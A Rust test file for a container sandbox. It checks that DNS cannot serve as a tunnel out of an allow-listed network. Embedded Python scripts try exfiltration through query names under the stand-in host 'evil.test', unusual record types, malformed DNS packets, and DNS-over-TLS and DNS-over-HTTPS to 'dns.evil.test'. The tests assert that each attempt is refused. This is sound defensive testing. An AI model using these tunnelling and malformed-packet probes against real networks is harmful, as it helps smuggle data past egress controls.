//! Row 5 of the promises: names as a way out. And what names are for.

use harness::cache::{BUSYBOX, CLIENTS};
use harness::site::{CHOSEN_DNS, DNS, INSIDE};
use harness::{Sandbox, Site};

use crate::attacks::{assert_refused, attempts};

const TUNNELS: &str = r"
for server in ['8.8.8.8', '45.33.7.54', '100.127.255.1', '10.66.0.1', '2001:4860:4860::8888']:
    for over_tcp in [False, True]:
        attempt(f'good {server} {over_tcp}', lambda: ask(server, question('www.good.test', 1), over_tcp))
        attempt(f'bad {server} {over_tcp}', lambda: ask(server, question('data-in-a-name.evil.test', 1), over_tcp))
attempt('good upper case', lambda: ask('8.8.8.8', question('wWw.GOOD.test', 1)))
attempt('bad long labels', lambda: ask('8.8.8.8', question('.'.join(['x' * 63] * 3) + '.evil.test', 1)))
attempt('bad below an allowed name', lambda: ask('8.8.8.8', question('data.www.good.test', 1)))
attempt('bad parent', lambda: ask('8.8.8.8', question('good.test', 1)))
for kind in [2, 5, 6, 10, 12, 15, 16, 33, 35, 64, 99, 251, 252, 255, 257, 65280]:
    attempt(f'bad type {kind} of an allowed name', lambda: ask('8.8.8.8', question('www.good.test', kind)))
    attempt(f'bad type {kind}', lambda: ask('8.8.8.8', question('tunnel.evil.test', kind)))
for n in range(500):
    try: ask('8.8.8.8', question(f'n{n}.many.evil.test', 1), n % 50 == 0)
    except OSError: pass
    
head = lambda *counts, flags=0x0100: struct.pack('!HHHHHH', 7, flags, *counts)
odd = {
    'empty': b'', 'short': b'\x12', 'head only': head(1, 0, 0, 0), 'no question': head(0, 0, 0, 0), 'many questions': question('www.good.test', 1, head(9, 0, 0, 0)),
    'pointer to itself': head(1, 0, 0, 0) + b'\xc0\x0c\0\1\0\1', 'pointer out': head(1, 0, 0, 0) + b'\xff\xff\0\1\0\1', 'label out': head(1, 0, 0, 0) + b'\x3fabc',
    'response': question('www.good.test', 1, head(1, 0, 0, 0, flags=0x8180)), 'update': question('www.good.test', 1, head(1, 0, 0, 0, flags=0x2800)),
    'class chaos': question('version.bind', 16)[:-2] + b'\0\3', 'lying counts': question('www.good.test', 1, head(1, 65535, 65535, 65535)),
    'endless name': head(1, 0, 0, 0) + b'\1a' * 2000 + b'\0\0\1\0\1', 'nul in a label': question(b'www\0.good.test', 1), 'dot in a label': head(1, 0, 0, 0) + vector(1, b'www.good.test') + b'\0\0\1\0\1',
}
for name, query in odd.items():
    for over_tcp in [False, True]:
        attempt(f'odd {name} {over_tcp}', lambda: ask('8.8.8.8', query, over_tcp))
attempt('good still', lambda: ask('8.8.8.8', question('www.good.test', 1)))
attempt('refused DoT of another', lambda: shaken('45.33.7.54', client_hello(b'dns.evil.test'), 853))
attempt('refused DoT to an allowed host', lambda: shaken('45.33.7.14', client_hello(b'dns.evil.test'), 853))
attempt('refused DoH by name', lambda: answer(send(tls('45.33.7.54', 'dns.evil.test'), get('dns.evil.test', '/dns-query?dns=AAAA'))))
";

#[test]
fn row_5_names_types_and_other_name_servers_as_a_tunnel() {
    let site = Site::shared();
    let matchlock = site.matchlock().with_images(&[CLIENTS]);
    let sandbox = Sandbox::start(&matchlock, CLIENTS, &["--allow-host", "www.good.test"]);
    let attempts = attempts(&sandbox, TUNNELS);
    let mut wrong = Vec::new();
    for (name, came) in attempts.iter().filter(|(name, _)| !name.starts_with("refused")) {
        let answered = came.starts_with("code 0") && !came.starts_with("code 0, 0 answers");
        if answered != name.starts_with("good") {
            wrong.push(format!("{name}: {came}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert_refused(&attempts.into_iter().filter(|(name, _)| name.starts_with("refused")).collect::<Vec<_>>());
    for part in ["data-in-a-name", "xxxxxx", "data.www", "tunnel.", "many.evil", "version.bind"] {
        assert!(site.queries(part).is_empty(), "{part} was asked for");
    }
    let types = ["A", "AAAA", "HTTPS"];
    let asked = site.queries("good.test");
    assert!(
        asked
            .iter()
            .all(|query| types.iter().any(|it| query["type"] == *it) || query["name"] == "text.good.test"),
        "{asked:?}"
    );
    site.assert_untouched();
}

#[test]
fn answers_say_nothing_that_we_cannot_carry_or_that_is_not_public() {
    let matchlock = Site::shared().matchlock().with_images(&[CLIENTS]);
    let sandbox = Sandbox::start(&matchlock, CLIENTS, &["--allow-host", "*.good.test"]);
    let program = "
for name in ['mixed', 'mapped', 'nat64', 'chain', 'alias', 'six', 'www']:
    for kind in [1, 28, 65]:
        attempt(f'{name} {kind}', lambda: ask('8.8.8.8', question(name + '.good.test', kind)))
";
    for (name, came) in attempts(&sandbox, program) {
        let expected = match name.as_str() {
            "mixed 1" | "alias 1" | "six 28" | "www 1" => {
                came.starts_with("code 0") && !came.contains(" 0 answers")
            }
            _ => came.contains(" 0 answers"),
        };
        assert!(expected, "{name}: {came}");
    }
}

#[test]
fn the_systems_resolver_is_asked_unless_the_user_chooses_another() {
    let site = Site::shared();
    let matchlock = site.matchlock();
    let look = |flags: &[&str], name: &str| {
        let line = format!("cat /etc/resolv.conf; nslookup {name}");
        let flags = [&["run", "--image", BUSYBOX], flags, &["--", "sh", "-c", &line]].concat();
        let output = matchlock.run(&flags).stdout_text();
        assert!(output.contains("45.33.7.15"), "{output}");
        let asked: Vec<_> = site.queries(name).iter().map(|query| query["server"].clone()).collect();
        (output, asked)
    };
    let (said, asked) = look(&[], "by-default.evil.test");
    assert!(said.starts_with("nameserver 8.8.8.8\nnameserver 8.8.4.4\n"), "{said}");
    assert!(!asked.is_empty() && asked.iter().all(|server| *server == DNS.to_string()), "{asked:?}");
    let (said, asked) = look(&["--dns-servers", "45.33.7.55"], "chosen.evil.test");
    assert!(said.starts_with("nameserver 45.33.7.55\n"), "{said}");
    assert!(!asked.is_empty() && asked.iter().all(|server| *server == CHOSEN_DNS.to_string()), "{asked:?}");
}

#[test]
fn other_records_pass_in_an_open_network_only() {
    let matchlock = Site::shared().matchlock().with_images(&[CLIENTS]);
    let program = "attempt('text', lambda: ask('8.8.8.8', question('text.good.test', 16)))";
    let open = Sandbox::start(&matchlock, CLIENTS, &[]);
    assert!(attempts(&open, program)[0].1.contains("some text"));
    let sealed = Sandbox::start(&matchlock, CLIENTS, &["--allow-host", "text.good.test"]);
    assert!(!attempts(&sealed, program)[0].1.contains("some text"));
}

#[test]
fn an_added_host_is_reached_by_its_name_at_that_address_alone() {
    let site = Site::shared();
    let matchlock = site.matchlock().with_images(&[CLIENTS]);
    for flags in [&["--allow-host", "*.good.test,db.inside.test"][..], &[]] {
        let added = ["--add-host", &format!("db.inside.test:{INSIDE}")];
        let sandbox = Sandbox::start(&matchlock, CLIENTS, &[flags, &added].concat());
        let got = sandbox.sh("curl -sS http://db.inside.test/reflect?added").success().stdout_text();
        assert!(got.contains("db.inside.test"), "{got}");
        let program = "attempt('other port', lambda: answer(send(plain('10.66.0.1'), get('db.inside.test'))))\n\
                       attempt('by another name', lambda: answer(send(plain('inside.good.test'), get('inside.good.test'))))";
        assert_refused(&attempts(&sandbox, program));
        sandbox.kill();
    }
    assert!(site.queries("db.inside").is_empty(), "added names are nobody else's business");
    site.assert_untouched();
    assert!(!site.web(INSIDE).iter().any(|line| line["target"] == "/who"));
}
